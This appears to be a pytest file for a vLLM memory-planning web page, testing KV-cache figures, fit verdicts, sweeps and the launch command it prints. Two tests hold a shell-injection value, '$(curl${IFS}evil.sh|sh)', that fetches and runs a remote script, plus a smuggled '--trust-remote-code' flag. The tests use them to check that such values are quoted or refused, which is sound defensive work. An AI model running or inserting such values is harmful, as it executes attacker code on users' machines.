"""Plan page: the seed scenario by default, widgets move the right figure, bad input is inline.

Hand-worked KV figures (Qwen3-235B-A22B config.json: 94 layers, 4 KV heads, head_dim 128):
  whole model, bf16 KV: 2 (K,V) x 94 x 4 x 128 x 2 B = 192,512 B per token
  per GPU at TP=8:      2 x 94 x max(1, 4 // 8) x 128 x 2 B = 48,128 B (KV heads replicated)
  per GPU at TP=8, fp8: 2 x 94 x 1 x 128 x 1 B = 24,064 B
  per GPU at TP=2:      2 x 94 x (4 // 2) x 128 x 2 B = 96,256 B

Hand-worked nearest fit (LLAMA_ON_ADA: Meta-Llama-3.1-8B's config.json, shared/model-configs:
vocab 128,256, hidden 4096, MLP 14,336, 32 layers, 32 heads, 8 KV heads, head_dim 128, untied
lm_head, max_position_embeddings 131,072; one RTX 4000 Ada; vLLM 0.33.0, Model Runner V2):
  CUDA total   (20,475 MiB nvidia-smi - 512 MiB driver reservation) = 19,963 MiB
               = 20,932,722,688 B (presets.estimated_total_bytes)
  budget       ceil(20,932,722,688 x 0.92) = 19,258,104,873 B (0.92: CacheConfig
               gpu_memory_utilization's default, config/cache.py, 0.33.0)
  weights      params 128,256 x 4096 x 2 (embeddings, lm_head) + 32 x (4096 x 4096 x 2 (q, o)
               + 4096 x 1024 x 2 (k, v) + 3 x 4096 x 14,336 + 2 x 4096 norms) + 4096
               = 8,030,261,248 x 2 B + rotary cos/sin 131,072 x 128 x 2 B = 16,094,076,928 B
  activation   int(3.637 x 256 seqs x 128,256 x 4 B + 0.308 x 2048 x (4096 + 2 x 14,336) x 2 B)
               = int(477,662,281.7 + 41,339,060.2) = 519,001,341 B (the fitted coefficients,
               planner.serving.engine, not refitted here)
  non-torch    0.25 GiB CUDA context = 268,435,456 B
  buffers      256 x 128,256 x 4 + 2 x 256 x 4,008 x 4 + 256 x 17,924 = 144,131,072 B
               (Model Runner V2's sampler tensors: planner.serving.runner_buffers)
  CUDA graphs  51 piecewise sizes (1, 2, 4; 8..248 by 8: 31; 256..512 by 16: 17, 512 =
               min(2 x 256 seqs, 512): VllmConfig._set_cudagraph_sizes, 0.33.0) + 35 full
               (those <= 256 seqs) = 86 x 8,808,038 B = 757,491,268 B
  KV pool      19,258,104,873 - 16,094,076,928 - 519,001,341 - 268,435,456 - 144,131,072
               - 757,491,268 = 1,474,968,808 B (1,406.6 MiB)
  bf16 KV      32 layers x 8 KV heads x 128 x 2 (K, V) x 2 B = 131,072 B a token; a block of
               16 tokens (0.33.0's default) x 131,072 = 2,097,152 B; 1,474,968,808 // 2,097,152
               = 703 blocks; vLLM checks the pool less the null block (check_enough_kv_cache_
               memory, v1/core/kv_cache_planning.py, 0.33.0): 702 blocks, 702 x 16 = 11,232
               tokens, the max_model_len its error estimates (estimate_max_model_len)
  fp8 KV       blocks of 16 x 65,536 B = 1,048,576 B: 1,474,968,808 // 1,048,576 = 1,406, one
               held back: 1,405 x 16 = 22,480 tokens
"""

import json

import pytest

from planner.serving.plan import WARM_RESTART_LAUNCH_NOTE
from planner.text import md_escape
from tests.app.conftest import (
    ROOT,
    launch_command,
    metric,
    open_link,
    open_page,
    show_chart,
    texts,
    unmodelled_verdict,
)

LLAMA_ON_ADA = {"gpu": "rtx-4000-ada", "gpn": "1", "model": "meta-llama/Meta-Llama-3.1-8B",
                "vllm": "0.33.0"}
"""The plan that does not fit whose nearest change the module docstring works out."""


def kv_room(at) -> int:
    """The longest single request the KV pool holds (not capped at the model's limit)."""
    return int(metric(at, "KV room").replace(",", ""))


def test_seed_scenario_is_the_first_screen() -> None:
    at = open_page()  # the default page, no URL parameters
    assert not at.exception
    assert at.title[0].value == "Plan"
    assert metric(at, "KV bytes/token per GPU") == "48,128 B"
    page = texts(at)
    assert "KV bytes per token, whole model (TP=1): **192,512 B**" in page
    formulas = "\n".join(c.value for c in at.code)  # the KV formulas' code blocks
    assert "max(1, 4 // 8) KV heads x (128 + 128) dims x 2 B = 512 B] = 48,128 B" in formulas
    # ~108,000 by hand (tests/planner/serving/test_seed_scenario.py), not the 2K-4K once guessed
    assert 100_000 <= kv_room(at) < 120_000
    assert any(s.value.startswith("Fits:") for s in at.success)
    command = launch_command(at)
    assert command.startswith("vllm serve Qwen/Qwen3-235B-A22B-GPTQ-Int4")
    # the seed runs EP, which keeps each expert whole (1536 % 128 = 0) on Marlin MoE
    assert "--tensor-parallel-size 8 --enable-expert-parallel" in command
    assert not at.warning  # so no kernel-fallback warning
    assert at.query_params["model"] == "Qwen/Qwen3-235B-A22B-GPTQ-Int4"
    assert "tp" not in at.query_params  # the hardware's layout (1 node x 8 GPUs: TP=8)
    assert at.query_params["ep"] == "1"


def test_the_per_gpu_kv_formula_under_pp_counts_one_stages_layers() -> None:
    # Qwen3-8B (36 layers, 8 KV heads of 128) at TP=1 x PP=2: one GPU holds 18 layers, 18 x
    # 2 x 8 x 128 x 2 B = 73,728 B per token, as the metric says; the formula above it summed
    # all 36 layers (147,456 B) under "per GPU"
    at = open_page(None, model="Qwen/Qwen3-8B", gpu="rtx-3090", gpn="2", tp="1", pp="2")
    assert not at.exception
    assert metric(at, "KV bytes/token per GPU") == "73,728 B"
    page = texts(at)
    assert "KV bytes per token, per GPU at TP=1, PP stage 1, layers 18-35: **73,728 B**" in page
    assert any(c.value == "18 layers x [max(1, 8 // 1) KV heads x (128 + 128) dims x 2 B = "
               "4,096 B] = 73,728 B" for c in at.code)

def test_seed_without_ep_warns_of_the_marlin_fallback_with_the_same_figures() -> None:
    # GPTQ g128 experts sliced by TP=8: 1536 / 8 = 192 wide per GPU, 192 % 128 = 64, so vLLM
    # leaves the Marlin MoE kernel for MoE WNA16, which holds the 128 eighths at group 64 (4.25
    # bits, not Marlin's 4.156 for 16 whole experts: 15,080,620,032 B of experts per GPU
    # against 14,747,959,296, layout.moe_wna16_load): 0.31 GiB more weights, less KV.
    with_ep = open_page()
    at = open_page(None, ep="0")
    assert not at.exception
    warning = next(w.value for w in at.warning if "Marlin MoE kernel" in w.value)
    assert "each expert is 192 wide per GPU at TP=8" in warning
    # the flag as inline code (planner.text.flags_as_code), not split at a hyphen where it wraps
    assert "`--enable-expert-parallel` keeps experts whole (1536 % 128 = 0)" in warning
    # under it, the speed model's comparison at the page's load (one request: EP behind,
    # speed.EpMarlin; test_speed_seed works both TPOTs)
    (compared,) = (i.value for i in at.info if "stay whole on Marlin MoE" in i.value)
    assert "at 1 request at once against this plan's" in compared
    assert "EP ahead from 7 requests at once" in compared and "is an estimate" in compared
    # once: not again among the speed details' captions
    show_chart(at, "Throughput and latency")
    assert [i.value for i in at.info if "stay whole on Marlin MoE" in i.value] == [compared]
    assert not [c.value for c in at.caption if "stay whole on Marlin MoE" in c.value]
    assert "--enable-expert-parallel" not in launch_command(at)
    for label in ("KV bytes/token per GPU", "Context ceiling"):
        assert metric(at, label) == metric(with_ep, label), label
    assert (metric(with_ep, "Weights per GPU"), metric(at, "Weights per GPU")) == (
        "14.56 GiB", "14.87 GiB")
    assert kv_room(at) < kv_room(with_ep)
    assert metric(at, "KV bytes/token per GPU") == "48,128 B"


def test_kv_room_is_shown_beside_the_capped_ceiling() -> None:
    # seed: the KV pool holds more than Qwen3-235B's 40,960-token max_position_embeddings,
    # so the ceiling is the model's limit and the KV room is the larger, uncapped figure
    at = open_page()
    assert metric(at, "Context ceiling") == "40,960"
    assert kv_room(at) > 40_960


def test_kv_room_at_the_searchs_end_says_so() -> None:
    """gpt-oss-120b on 8x H200 at TP=8: the room read 16,777,216, the search's end (2 ** 24,
    planner.serving.plan.fit.CEILING_SEARCH_TOKENS) shown as if found (helper 366's QA). By hand:
    18 full-attention layers x max(1, 8 // 8) KV head x (64 + 64) dims x 2 B = 4,608 B a token
    a GPU (its 18 sliding layers keep 128 tokens), and a pool over 100 GiB a GPU holds over
    100 x 2 ** 30 / 4,608 = 23.3 million tokens: more than the search reaches."""
    at = open_page(hw="preset", gpu="h200", gpn="8", nodes="1", model="openai/gpt-oss-120b")
    assert not at.exception
    assert metric(at, "KV bytes/token per GPU") == "9,216 B"  # 4,608 full + 4,608 sliding
    assert float(metric(at, "KV pool per GPU").removesuffix(" GiB")) > 100
    assert metric(at, "KV room") == "16,777,216+"
    help_text = next(m.proto.help for m in at.metric if m.label.startswith("KV room"))
    assert "'+': more than the search reaches" in help_text


def test_kv_room_says_why_it_is_a_block_below_the_verdicts_kv_tokens() -> None:
    # seed: the verdict's KV tokens (README), and just below it the KV room a block less with
    # no word why: vLLM holds one block back (planner.serving.plan.fit.kv_ceiling; block_pool.py
    # BlockPool's null_block, popped from the free queue, in the 0.34.0 wheel). The metric's
    # help says so. No release chosen: 0.34.0's blocks of 64 tokens (BLOCK_64_DEFAULT_FROM),
    # 1,797 of them (tests/app/test_display.py: 5,536,606,529 B // (64 x 48,128 B)), so
    # 1,797 x 64 = 115,008 KV tokens and a room of 115,008 - 64 = 114,944 (0.33.0's: 7,189
    # blocks of 16, 115,024 and 115,008)
    at = open_page()
    assert "1,797 blocks = 115,008 KV tokens" in at.success[0].value
    assert kv_room(at) == 1_797 * 64 - 64
    help_text = next(m.proto.help for m in at.metric if m.label.startswith("KV room"))
    assert "one block" in help_text and "null block" in help_text


def test_a_plan_that_does_not_fit_names_the_nearest_fit_under_the_verdict() -> None:
    # Llama-3.1-8B at its 131,072 tokens needs 16.00 GiB of KV on one 20 GB RTX 4000 Ada:
    # vLLM's words in the verdict estimate a maximum model length of 11232 (the module
    # docstring works it out: 702 blocks of 16). The nearest change that fits was said only
    # under "Start it", below the fold; it is the first note under the verdict, before "No
    # speed figures", with the verdict's own figure. Pinned to vLLM 0.33.0 (blocks of 16):
    # the subject is where the note stands, not the default release (0.34.0's blocks of 64
    # tokens, 8 MiB: 175 of them, 174 x 64 = 11136 tokens)
    at = open_page(None, **LLAMA_ON_ADA)
    assert not at.exception
    assert f"the estimated maximum model length is {702 * 16}." in at.error[0].value
    notes = [i.value for i in at.info]
    # and, the KV cache being 16-bit on an Ada card (compute capability 8.9), what an fp8
    # one holds on the same pool (the docstring: 1,405 x 16 = 22,480 tokens), in the Plan
    # page's fields (their labels), not the CLI's flags
    assert notes[0] == (f"Nearest change: max_model_len {702 * 16} fits. For a longer "
                        f"context: KV cache dtype fp8 with max_model_len {1405 * 16} fits.")
    assert notes[1] == "No speed figures: the plan does not fit."


def test_the_nearest_weight_format_is_named_as_the_quantization_field_says_it() -> None:
    # Qwen3-235B-A22B's BF16 weights, 470,187,269,120 B / 8 = 54.74 GiB per RTX 3090, fit no
    # layout of 8 (21.68 GiB budgets); as GPTQ int4 g128 about 14.44 GiB each do
    # (tests/cli/test_planner_cli.py works it out): the note names the Quantization field's
    # option, not the CLI's --target-quant, under the verdict and in the launch note
    at = open_page(None, gpu="rtx-3090", gpn="8", model="Qwen/Qwen3-235B-A22B")
    assert not at.exception
    step = ('Nearest change: Quantization "What-if: GPTQ int4, group 128 (W4A16)" '
            "(a checkpoint in that format) fits.")
    notes = [i.value for i in at.info]
    assert notes[0] == step and notes[2].endswith(step)
    assert "What-if: GPTQ int4, group 128 (W4A16)" in at.selectbox(key="plan.quant").options


def test_apply_sets_the_nearest_change_and_the_plan_then_fits() -> None:
    # the case above: Llama-3.1-8B at its 131,072 tokens on one RTX 4000 Ada under vLLM
    # 0.33.0, whose KV pool holds 702 x 16 = 11,232 tokens for one request (the module
    # docstring): Apply puts 11232 in the max_model_len field (and the link), and the plan
    # then fits at that length
    at = open_page(None, **LLAMA_ON_ADA)
    assert at.number_input(key="plan.max_model_len").value is None  # the model's 131,072
    at.button(key="plan.apply_nearest_fit").click().run()
    assert not at.exception
    assert at.number_input(key="plan.max_model_len").value == 702 * 16
    assert at.query_params["len"] == str(702 * 16)
    assert any(s.value.startswith("Fits:") for s in at.success) and not at.error
    assert not any(b.key == "plan.apply_nearest_fit" for b in at.button)  # nothing to apply


def test_apply_sets_the_nearest_weight_format_and_layout() -> None:
    # Qwen3-235B-A22B's BF16 weights pinned at TP=4 (EP on, the default) on 8x RTX 3090:
    # GPTQ int4 is 124,055,313,408 B (tests/cli/test_planner_cli.py works it out), / 4 =
    # 31.0 GB a GPU over the 23.3 GB budget, / 8 = 15.5 GB under it: Apply picks the format
    # in the Quantization field and pins TP=8 (EP kept), and the plan fits. A checkpoint kept
    # from another what-if (the link's ckpt) is not loaded as this format: it is cleared
    at = open_page(None, gpu="rtx-3090", gpn="8", model="Qwen/Qwen3-235B-A22B", tp="4",
                   pp="1", dp="1", ckpt="org/other-format")
    assert at.selectbox(key="plan.tp").value == 4 and at.error
    assert at.query_params["ckpt"] == "org/other-format"
    at.button(key="plan.apply_nearest_fit").click().run()
    assert not at.exception
    assert at.selectbox(key="plan.quant").value == "w4a16-gptq-g128"
    assert [at.selectbox(key=f"plan.{field}").value for field in ("tp", "pp", "dp")] == [8, 1, 1]
    assert at.checkbox(key="plan.ep").value
    assert any(s.value.startswith("Fits:") for s in at.success) and not at.error
    assert (at.query_params["quant"], at.query_params["tp"]) == ("w4a16-gptq-g128", "8")
    assert "ckpt" not in at.query_params and "org/other-format" not in launch_command(at)


def test_apply_puts_back_vllms_batched_token_default() -> None:
    # Qwen3-30B-A3B on 8x H100 with max_num_batched_tokens 10,000,000 in the link: its
    # profile leaves no KV cache (tests/cli/test_planner_cli.py works it out), vLLM's default
    # of 8,192 tokens on an 80 GB H100 fits: Apply puts 8192 in the field and the plan fits
    at = open_page(None, gpu="h100-sxm", gpn="8", model="Qwen/Qwen3-30B-A3B", mbt="10000000")
    assert not at.exception and at.error
    assert at.info[0].value == "Nearest change: Batched tokens 8192 fits."
    at.button(key="plan.apply_nearest_fit").click().run()
    assert not at.exception
    assert at.number_input(key="plan.max_num_batched_tokens").value == 8192
    assert at.query_params["mbt"] == "8192"
    assert any(s.value.startswith("Fits:") for s in at.success) and not at.error
    # sequences and tokens both at the field's most (65,536) on one H100: both defaults
    # (1,024 and 8,192) come back together, as vLLM refuses fewer tokens than sequences
    at = open_page(None, gpu="h100-sxm", gpn="1", model="Qwen/Qwen3-8B", seqs="65536",
                   mbt="65536")
    assert at.error
    at.button(key="plan.apply_nearest_fit").click().run()
    assert not at.exception
    assert (at.query_params["seqs"], at.query_params["mbt"]) == ("1024", "8192")
    assert any(s.value.startswith("Fits:") for s in at.success) and not at.error


def test_concurrency_under_dp_is_labelled_per_replica_with_the_replicas_total() -> None:
    # TP=2 x DP=2 on 4x L40S: each replica holds its own KV pool, so the metric is one
    # replica's and under it what the two serve together (2 x one replica's; the CLI's "...
    # over 2 replicas"), which was the tooltip's only
    at = open_page(None, model="Qwen/Qwen3-32B-FP8", gpu="l40s", gpn="4", tp="2", pp="1",
                   dp="2")
    assert not at.exception
    shown = next(m for m in at.metric if m.label.startswith("Concurrency at"))
    assert shown.label == "Concurrency at 40,960 tokens per replica"  # the unit: tokens
    assert shown.delta == f"{2 * float(shown.value):,.2f} over 2 replicas"
    one = open_page(None, model="Qwen/Qwen3-32B-FP8", gpu="l40s", gpn="4", tp="4", pp="1",
                    dp="1")
    [alone] = [m for m in one.metric if m.label == "Concurrency at 40,960 tokens"]
    assert not alone.delta


def test_ep_choice_is_ignored_for_a_dense_model() -> None:
    at = open_page(None, model="Qwen/Qwen3-32B", tp="4", ep="1")
    assert not at.exception
    assert not any("Expert parallel (EP) = " in m.value for m in [*at.error, *at.warning])
    assert "--enable-expert-parallel" not in launch_command(at)
    assert at.checkbox(key="plan.ep_none").disabled


def test_fp8_kv_halves_kv_per_token_and_raises_the_ceiling() -> None:
    at = open_page()
    before = kv_room(at)
    at.selectbox(key="plan.kv_cache_dtype").set_value("fp8").run()
    assert not at.exception
    assert metric(at, "KV bytes/token per GPU") == "24,064 B"
    assert kv_room(at) > before
    assert "--kv-cache-dtype fp8" in launch_command(at)
    assert at.query_params["kv"] == "fp8"


def test_more_memory_utilization_raises_the_ceiling() -> None:
    at = open_page()
    before = kv_room(at)
    at.slider(key="plan.gpu_memory_utilization").set_value(0.95).run()
    assert kv_room(at) > before
    assert "--gpu-memory-utilization 0.95" in launch_command(at)


def test_tp2_splits_kv_heads_and_does_not_fit() -> None:
    at = open_page()
    at.selectbox(key="plan.tp").set_value(2).run()
    assert not at.exception
    assert metric(at, "KV bytes/token per GPU") == "96,256 B"
    assert any(e.value.startswith("Does not fit") for e in at.error)
    assert at.selectbox(key="plan.pp").options  # the controls stay usable


def test_only_valid_tp_offered_and_the_rest_explained() -> None:
    at = open_page()
    # 64 query heads and 4 KV heads: TP must divide 64 and divide or be divided by 4.
    assert [int(o) for o in at.selectbox(key="plan.tp").options] == [1, 2, 4, 8]
    assert "Why not TP = 3, 5-7?" in [e.label for e in at.expander]
    assert "Total number of attention heads (64) must be divisible by tensor parallel size (3)" \
        in texts(at)


def test_an_impossible_layout_in_the_link_is_explained_and_replaced() -> None:
    at = open_page(None, tp="3")
    assert not at.exception
    # an automatic fallback is a warning, not a red error (issue 13, item 14)
    assert not any("not possible here" in e.value for e in at.error)
    assert any("Tensor parallel (TP) = 3 is not possible here" in w.value and "divisible" in w.value
               for w in at.warning)
    assert at.query_params["tp"] == "4"  # the nearest valid size (larger on a tie with 2)
    assert metric(at, "KV bytes/token per GPU") == "48,128 B"  # 4 KV heads / TP=4 = 1 head


def test_absurd_context_is_a_clear_verdict_not_a_traceback() -> None:
    at = open_page(None, len="10000000")
    assert not at.exception
    # vLLM's own refusal (config/model.py), for the GPTQ seed: max_position_embeddings 40,960,
    # as the verdict (shown once: test_each_error_is_shown_once_beside_the_verdict)
    assert at.error[0].value.startswith(
        "Does not fit: User-specified max_model_len (10000000) is greater than the derived "
        "max_model_len (max_position_embeddings=40960")


def test_sweep_runs_on_demand_and_a_row_can_be_applied() -> None:
    at = open_page()
    # no grid until asked (the memory terms are a static table, the speed terms sit in
    # their lazy chart tab)
    assert not at.dataframe
    at.button[0].click().run()  # "Run the sweep"
    assert not at.exception
    table = at.dataframe[-1].value
    assert set(table["KV dtype"]) == {"auto", "fp8"}
    # fitting rows first; the fits column in `sweep`'s words (yes, no; yes*, stalls)
    assert table["fits"].iloc[0] == "yes" and set(table["fits"]) <= {"yes", "no"}
    fitting = table[table["fits"] != "no"]
    assert table["ceiling (tokens)"].iloc[0] == fitting["ceiling (tokens)"].max()
    # concurrency is all DP replicas' (what the ranking uses): DP x the per-replica column
    dp = table["layout"].str.extract(r"DP=(\d+)", expand=False).fillna("1").astype(int)
    assert (dp > 1).any()
    assert ((table["concurrency"] - dp * table["per replica"]).abs() <= 0.01 * dp).all()
    at.selectbox(key="plan.sweep_row").set_value(0).run()
    at.button[1].click().run()  # "Apply"
    assert not at.exception
    assert metric(at, "Context ceiling") == f"{table['ceiling (tokens)'].iloc[0]:,}"



def test_the_sweep_grid_shows_the_ranked_and_speed_columns_the_rest_under_more() -> None:
    # at 1280 px the sweep's last columns scrolled out of sight: the grid holds the ranked
    # figures and the speed under short labels (the full name is the tooltip), and per replica
    # and the memory columns are in an expander; every column is shown in one of the two
    at = open_page()
    at.button[0].click().run()  # "Run the sweep"
    grid, more = at.dataframe[-2], at.dataframe[-1]
    assert list(grid.proto.column_order) == [
        "format", "layout", "KV dtype", "fits", "ceiling (tokens)", "concurrency",
        "TPOT (ms)", "output tok/s", "TTFT (ms)", "at concurrency"]
    assert list(more.proto.column_order) == [
        "format", "layout", "KV dtype", "quantization", "per replica", "weights/GPU",
        "KV B/token/GPU"]
    assert {*grid.proto.column_order, *more.proto.column_order} == set(grid.value.columns)
    config = json.loads(grid.proto.columns)
    assert config["at concurrency"] == {"label": "at conc.", "help": "at concurrency",
                                        "type_config": {"type": "number", "format": "localized"}}
    # the format by its --target-quant name (the seed's GPTQ checkpoint: w4a16-gptq-g128), its
    # label under More columns: in 190 px it put a capped row's slot wait out of sight
    assert set(grid.value["format"]) >= {"w4a16-gptq-g128"}
    assert set(grid.value["quantization"]) >= {"GPTQ int4, group 128 (W4A16)"}
    assert config["format"]["label"] == "format" and "width" not in config["format"]
    assert at.expander[-1].label == ("More columns: the weight format's full name, concurrency "
                                     "per replica, weights per GPU, KV bytes per token per GPU")


def test_a_sweep_without_replicas_has_no_per_replica_column() -> None:
    # one RTX 3090: every row is TP=1, one replica, so "per replica" was the concurrency
    # column again under another name, and the caption spoke of replicas there were not
    at = open_page("plan", model="Qwen/Qwen3-8B", gpu="rtx-3090", gpn="1")
    at.button(key="plan.run_sweep").click().run()
    assert not at.exception
    grid, more = at.dataframe[-2], at.dataframe[-1]
    assert set(grid.value["layout"]) == {"TP=1"}
    assert list(more.proto.column_order) == [
        "format", "layout", "KV dtype", "quantization", "weights/GPU", "KV B/token/GPU"]
    assert at.expander[-1].label == ("More columns: the weight format's full name, weights per "
                                     "GPU, KV bytes per token per GPU")
    assert not any("per replica" in c.value for c in at.caption)


def test_the_sweep_marks_its_what_ifs_and_names_the_checkpoints_best_row() -> None:
    """Llama-3.1-70B-Instruct (BF16) on 2 nodes x 8 H100: GPTQ int4 TP=1 x PP=16 ranked first
    with nothing saying it needs a converted checkpoint; the CLI marks it a what-if (FP8 rows
    "at load": vLLM makes FP8 as it loads the BF16 weights) and names the best BF16 row.
    Every fitting row's ceiling is the model's 131,072 tokens, so rows rank by concurrency,
    that is by the KV pool the weights leave: above BF16's best (TP=1 x PP=16, the most GPUs
    its weights are spread over) rank W4A16 (GPTQ and AWQ) on 8 layouts and FP8 and INT8 W8A8
    on the 4 layouts without DP, 2 x 8 + 2 x 4 = 24 rows: it is #25 (`python -m planner sweep
    --model meta-llama/Llama-3.1-70B-Instruct --gpu h100-sxm --gpus 16`)."""
    at = open_page("plan", model="meta-llama/Llama-3.1-70B-Instruct", gpu="h100-sxm", gpn="8",
                   nodes="2")
    at.button(key="plan.run_sweep").click().run()
    assert not at.exception
    grid, kind = at.dataframe[-2], "own, at load or what-if"
    assert list(grid.proto.column_order)[:3] == ["format", kind, "layout"]
    config = json.loads(grid.proto.columns)[kind]
    assert config["label"] == "kind" and config["help"].startswith(
        "own: the checkpoint's own format, planned as stored; at load: a format vLLM makes "
        "from the checkpoint as it loads it")
    rows = grid.value
    assert list(rows.iloc[0][["format", kind, "layout"]]) == [
        "w4a16-gptq-g128", "what-if", "TP=1 x PP=16"]
    # vLLM makes FP8 from the BF16 weights as it loads them (`--quantization fp8`); GPTQ, AWQ
    # and INT8 W8A8 need a checkpoint in that format
    assert set(rows[kind][:24]) == {"what-if", "at load"}
    assert set(rows[rows["format"] == "fp8-tensor"][kind]) == {"at load"}
    assert set(rows[rows["format"].isin(["w4a16-gptq-g128", "w4a16-awq-g128", "w8a8-int8"])][
        kind]) == {"what-if"}
    assert list(rows.iloc[24][["format", kind, "layout"]]) == ["bf16", "own", "TP=1 x PP=16"]
    assert set(rows[rows["format"] == "bf16"][kind]) == {"own"}
    assert any(c.value.startswith(
        "Best in the checkpoint's own format (BF16): #25; what-if rows need a converted "
        "checkpoint; vLLM quantizes at-load rows as it loads the checkpoint. ")
        for c in at.caption)
    # the seed's GPTQ checkpoint is swept in its own format alone: neither column nor line
    at = open_page("plan")
    at.button(key="plan.run_sweep").click().run()
    assert kind not in at.dataframe[-2].value.columns
    assert not any("own format" in c.value for c in at.caption)


def test_what_if_fp8_of_a_bf16_checkpoint_passes_quantization_to_vllm() -> None:
    # Qwen3-32B bf16: 64 layers; fp8 weights take about half of bf16's ~61 GiB over TP=4.
    at = open_page(None, model="Qwen/Qwen3-32B", tp="4")
    assert not at.exception
    bf16_weights = metric(at, "Weights per GPU")
    at.selectbox(key="plan.quant").set_value("fp8-tensor").run()
    assert not at.exception
    assert "--quantization fp8" in launch_command(at)
    assert float(metric(at, "Weights per GPU").split()[0]) < 0.6 * float(bf16_weights.split()[0])
    assert at.query_params["quant"] == "fp8-tensor"


def test_a_what_if_on_a_quantized_checkpoint_is_refused_inline() -> None:
    at = open_page(None, quant="fp8-tensor")  # the seed checkpoint is already GPTQ int4
    assert not at.exception
    assert any('Quantization = "What-if: FP8 E4M3, per-tensor scale" is not possible here'
               in w.value for w in at.warning)
    assert at.query_params["quant"] == "checkpoint"


def test_what_if_without_a_checkpoint_shows_a_note_not_a_16_bit_command() -> None:
    """Issue 12: Qwen3-8B on one L4, what-if GPTQ int4, printed `vllm serve Qwen/Qwen3-8B`,
    which loads BF16. Now there is no command, a note says why, and naming a checkpoint in
    that format gives a command that loads it."""
    query = {"model": "Qwen/Qwen3-8B", "gpu": "l4", "gpn": "1", "tp": "1", "quant": "gptq"}
    at = open_page(None, **query)
    assert not at.exception
    assert at.query_params["quant"] == "w4a16-gptq-g128"
    assert not [c for c in at.code if c.language == "bash"]
    assert any(i.value.startswith("No GPTQ int4, group 128 (W4A16) checkpoint of Qwen/Qwen3-8B")
               for i in at.info)
    at = open_page(None, **query, ckpt="someone/Qwen3-8B-GPTQ-Int4")
    command = launch_command(at)
    assert command.startswith("vllm serve someone/Qwen3-8B-GPTQ-Int4 ")


def test_the_model_itself_as_the_checkpoint_is_told_to_empty_the_field() -> None:
    # (review h440 #8) the model's own BF16 checkpoint is no GPTQ one, and planning it
    # "itself" is what the page already does: the way out is the field emptied, in its words
    query = {"model": "Qwen/Qwen3-8B", "gpu": "l4", "gpn": "1", "tp": "1", "quant": "gptq"}
    at = open_page(None, **query, ckpt="Qwen/Qwen3-8B")
    assert not at.exception
    [note] = [i.value for i in at.info if "is the model planned itself" in i.value]
    assert ("Qwen/Qwen3-8B is the model planned itself, whose checkpoint holds bf16 weights "
            "(BF16), not the w4a16-gptq-g128 planned: empty the Plan page's \"Checkpoint in "
            "this format\" field to have vLLM make GPTQ int4") in note, note
    assert "--target-checkpoint" not in note and "Model page" not in note


def test_a_linked_checkpoint_cannot_inject_shell_or_flags_into_the_command() -> None:
    # a shared link's ckpt was pasted into the command as is: "vllm serve
    # $(curl${IFS}evil.sh|sh) ..." passed vLLM's parser and ran the substitution when copied
    query = {"model": "Qwen/Qwen3-8B", "gpu": "l4", "gpn": "1", "tp": "1", "quant": "gptq"}
    at = open_page(None, **query, ckpt="./$(curl${IFS}evil.sh|sh)")  # a path: kept, quoted
    assert not at.exception
    command = launch_command(at)
    assert command.startswith("vllm serve './$(curl${IFS}evil.sh|sh)' --max-model-len")
    at = open_page(None, **query, ckpt="--trust-remote-code")
    assert not at.exception
    assert any("ckpt='--trust-remote-code' ignored" in w.value for w in at.sidebar.warning)
    assert "--trust-remote-code" not in " ".join(c.value for c in at.code)


def test_a_checkpoint_that_is_no_repo_id_nor_path_is_refused_in_words() -> None:
    # put in the command as is before; vLLM, not finding it on disk, asks the hub's client,
    # which refuses the name (validate_repo_id): the CLI's --target-checkpoint says so too
    query = {"model": "Qwen/Qwen3-8B", "gpu": "l4", "gpn": "1", "tp": "1", "quant": "gptq"}
    at = open_page(None, **query, ckpt="$(curl${IFS}evil.sh|sh)")
    assert not at.exception
    assert not [c for c in at.code if c.language == "bash"]  # no checkpoint: no command
    rules = ("is not a Hugging Face repo id: expected owner/name such as Qwen/Qwen3-8B "
             "(letters, digits, '-', '_', '.'; at most 96 characters each), or a path to an "
             "existing folder on the machine vLLM runs on (starting with / or ./)")
    shown = [w.value.replace("\\", "") for w in at.sidebar.warning]  # Markdown-escaped
    assert any(w.startswith("Link parameter ckpt='$(curl${IFS}evil.sh|sh)' ignored: the "
                            f"checkpoint '$(curl${{IFS}}evil.sh|sh)' {rules}")
               for w in shown), shown
    at = open_page(None, **query)
    at.text_input(key="plan.target_checkpoint").input("me/ckpts/qwen3-gptq").run()
    assert not at.exception
    shown = " ".join(str(e.value) for e in (*at.warning, *at.sidebar.warning, *at.error))
    assert "the checkpoint 'me/ckpts/qwen3-gptq' is not a Hugging Face repo id" in shown
    assert "Kept empty (the default)." in shown
    at.text_input(key="plan.target_checkpoint").input("/models/qwen3-gptq").run()
    command = launch_command(at)
    assert command.startswith("vllm serve /models/qwen3-gptq ")


def test_an_nvfp4_kv_cache_is_offered_and_sized_with_its_scales() -> None:
    # Llama-3.1-8B on a B200 (nvfp4 KV runs on the SM100 family): 32 layers x 2 x 8 KV heads
    # x (128 / 2 fp4 bytes + 128 / 16 fp8 scales) = 36,864 B per token (bf16: 131,072 B)
    at = open_page(None, model="meta-llama/Llama-3.1-8B-Instruct", gpu="b200", gpn="1",
                   tp="1", len="8192", kv="nvfp4")
    assert not at.exception and not at.warning
    assert at.selectbox(key="plan.kv_cache_dtype").value == "nvfp4"
    shown = texts(at)
    assert "KV bytes per token, whole model (TP=1): **36,864 B**" in shown
    assert "K (128 / 2 + 128 / 16 x 1 = 72) B nvfp4" in shown
    assert "K and V at nvfp4: 4-bit data plus its scales in each head vector" in shown



def test_a_checkpoints_fp8_kv_cache_is_sized_at_1_byte_in_the_formula() -> None:
    # nvidia/Llama-3.1-70B-Instruct-FP8: hf_quant_config.json (its config.json has no
    # quantization_config) kv_cache_quant_algo FP8, taken by --kv-cache-dtype auto; 80 layers,
    # 8 KV heads of 128: 80 x 8 x (128 + 128) x 1 B. (nvidia/Qwen3.6-35B-A3B-NVFP4, used
    # before, keeps a 16-bit KV cache: vLLM reads its config.json quantization_config, which
    # names no KV scheme)
    at = open_page(None, model="nvidia/Llama-3.1-70B-Instruct-FP8", gpu="h200", gpn="1",
                   tp="1", len="16384")
    assert not at.exception
    shown = texts(at)
    assert "KV bytes per token, whole model (TP=1): **163,840 B**" in shown
    assert "(128 + 128) dims x 1 B = 2,048 B] = 163,840 B" in "\n".join(c.value for c in at.code)
    assert "K and V at 1 B per element" in shown

@pytest.fixture
def e2b_hub(hub_reply):
    """google/gemma-4-E2B-it answers with its verbatim config (tests/fixtures/gemma4)."""
    config = json.loads((ROOT / "tests" / "fixtures" / "gemma4" / "google__gemma-4-E2B-it.json")
                        .read_text(encoding="utf-8"))
    hub_reply("google/gemma-4-E2B-it", config)


